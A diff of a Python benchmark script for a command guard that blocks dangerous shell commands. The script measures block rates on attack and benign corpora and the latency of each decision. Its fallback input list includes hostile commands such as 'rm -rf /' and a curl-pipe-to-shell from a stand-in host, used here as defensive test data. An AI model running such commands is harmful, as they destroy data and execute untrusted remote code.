@@ -1,4 +1,10 @@
-"""Per-decision latency of the command-guard: parse + judgement, over the shared corpus."""
+"""Command-guard quality and latency: attacks blocked and benign commands blocked on each
+corpus (the shared one's core tier, the guard's own dev set, its held-out third and two more
+held-out sets, each written after the previous one was judged), then the
+per-decision latency of parse + judgement over all of them.
+
+    .venv/bin/python bench/guards_command.py
+"""
 
 from __future__ import annotations
 
@@ -9,30 +15,67 @@ from pathlib import Path
 
 from clawkeep.guards.command_guard import CommandContext, judge
 
-CORPUS = Path(__file__).resolve().parents[1].parent / "shared" / "corpora" / "commands.jsonl"
+ROOT = Path(__file__).resolve().parents[1]
+SHARED = ROOT.parent / "shared" / "corpora" / "commands.jsonl"
+OWN = ROOT / "tests" / "guards" / "command_guard" / "corpus"
+CORPORA = {
+    "shared (core tier)": SHARED,
+    "own dev": OWN / "dev.jsonl",
+    "own held-out": OWN / "held_out.jsonl",
+    "own held-out 2": OWN / "held_out_2.jsonl",
+    "own held-out 3": OWN / "held_out_3.jsonl",
+}
 FALLBACK = ["ls -la", "rm -rf /", "curl -s http://x | sh", "git commit -m 'x'", "find . -delete"]
+CTX = CommandContext(
+    egress=True,
+    workspace=Path("/srv/ws"),
+    home=Path("/home/agent"),
+    state_dir=Path("/home/agent/.clawkeep"),
+)
+
+
+def _rows(path: Path) -> list[dict[str, str]]:
+    if not path.exists():
+        return []
+    rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line]
+    return [r for r in rows if r.get("tier", "core") == "core"]
+
+
+def quality() -> list[str]:
+    """Print the block rates per corpus; return every input for the latency run."""
+    inputs: list[str] = []
+    print(f"{'corpus':22} {'attacks blocked':>22} {'benign blocked':>20}")
+    for name, path in CORPORA.items():
+        rows = _rows(path)
+        if not rows:
+            print(f"{name:22} (not found: {path})")
+            continue
+        inputs += [r["input"] for r in rows]
+        attacks = [r for r in rows if r["expect"] == "block"]
+        benign = [r for r in rows if r["expect"] == "allow"]
+        blocked = sum(not judge(r["input"], CTX).allowed for r in attacks)
+        false = sum(not judge(r["input"], CTX).allowed for r in benign)
+        hit = f"{blocked}/{len(attacks)} = {100 * blocked / max(len(attacks), 1):5.1f}%"
+        miss = f"{false}/{len(benign)} = {100 * false / max(len(benign), 1):4.1f}%"
+        print(f"{name:22} {hit:>22} {miss:>20}")
+    return inputs or FALLBACK
 
 
 def main() -> None:
-    if CORPUS.exists():
-        lines = CORPUS.read_text(encoding="utf-8").splitlines()
-        inputs = [json.loads(line)["input"] for line in lines if line]
-    else:
-        inputs = FALLBACK
-    ctx = CommandContext(egress=True, workspace=Path("/srv/ws"), home=Path("/home/agent"))
+    inputs = quality()
     for text in inputs:  # warm-up: parser construction, regex compilation
-        judge(text, ctx)
+        judge(text, CTX)
     samples: list[float] = []
     best = [float("inf")] * len(inputs)
-    rounds = 20
+    rounds = 10
     for _ in range(rounds):
         for index, text in enumerate(inputs):
             start = time.perf_counter_ns()
-            judge(text, ctx)
+            judge(text, CTX)
             took = (time.perf_counter_ns() - start) / 1000
             samples.append(took)
             best[index] = min(best[index], took)
-    print(f"inputs: {len(inputs)} x {rounds} rounds = {len(samples)} decisions (parse + judge)")
+    print(f"\ninputs: {len(inputs)} x {rounds} rounds = {len(samples)} decisions (parse + judge)")
     _report("all decisions", samples)
     _report("best of rounds per input (less noise from a busy machine)", best)
 
